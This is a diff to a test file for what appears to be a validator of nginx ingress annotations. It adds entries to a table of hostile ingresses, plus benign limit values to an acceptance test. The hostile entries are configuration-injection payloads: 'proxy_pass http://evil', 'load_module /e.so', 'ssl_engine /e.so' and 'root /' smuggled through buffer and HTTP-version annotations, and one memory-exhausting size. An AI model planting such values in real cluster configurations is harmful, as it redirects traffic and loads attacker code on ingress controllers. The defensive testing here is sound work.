@@ -165,6 +165,21 @@ HOSTILE_INGRESSES = {
             first_path(o).update(path="/" + "(" * 300 + "a" + ")" * 300),
         ),
     ),
+    "proxy-buffering-payload": annotated(
+        "buffering", {NGINX_ANNOTATION + "proxy-buffering": "off; proxy_pass http://evil"}
+    ),
+    "proxy-buffer-size-payload": annotated(
+        "buffer-size", {NGINX_ANNOTATION + "proxy-buffer-size": "4k;\n} load_module /e.so; #"}
+    ),
+    "proxy-buffer-size-huge": annotated(
+        "buffer-huge", {NGINX_ANNOTATION + "proxy-buffer-size": "999999999g"}
+    ),
+    "proxy-buffers-number-payload": annotated(
+        "buffers-number", {NGINX_ANNOTATION + "proxy-buffers-number": "8 8k; root /"}
+    ),
+    "proxy-http-version-payload": annotated(
+        "http-version", {NGINX_ANNOTATION + "proxy-http-version": "1.1;\nssl_engine /e.so;"}
+    ),
     "f5-snippet": annotated("f5", {"nginx.org/location-snippets": "root /;"}),
     "cve-2022-4886-path-alias": with_field(
         "path-alias",
@@ -375,6 +390,11 @@ def test_values_at_their_grammar_limits_are_accepted_by_nginx(tmp_path, good_pai
                 annotations={
                     NGINX_ANNOTATION + "proxy-read-timeout": str(grammar.SECONDS_MAX),
                     NGINX_ANNOTATION + "proxy-body-size": "999999999g",
+                    NGINX_ANNOTATION + "proxy-buffer-size": "1m",
+                    NGINX_ANNOTATION + "proxy-buffers-number": str(grammar.BUFFERS_NUMBER_MAX),
+                    NGINX_ANNOTATION + "proxy-buffering": "off",
+                    NGINX_ANNOTATION + "proxy-request-buffering": "off",
+                    NGINX_ANNOTATION + "proxy-http-version": "1.0",
                     NGINX_ANNOTATION + "allowlist-source-range": ",".join(
                         f"10.{i // 256}.{i % 256}.0/24" for i in range(grammar.SOURCE_RANGES_MAX)
                     ),
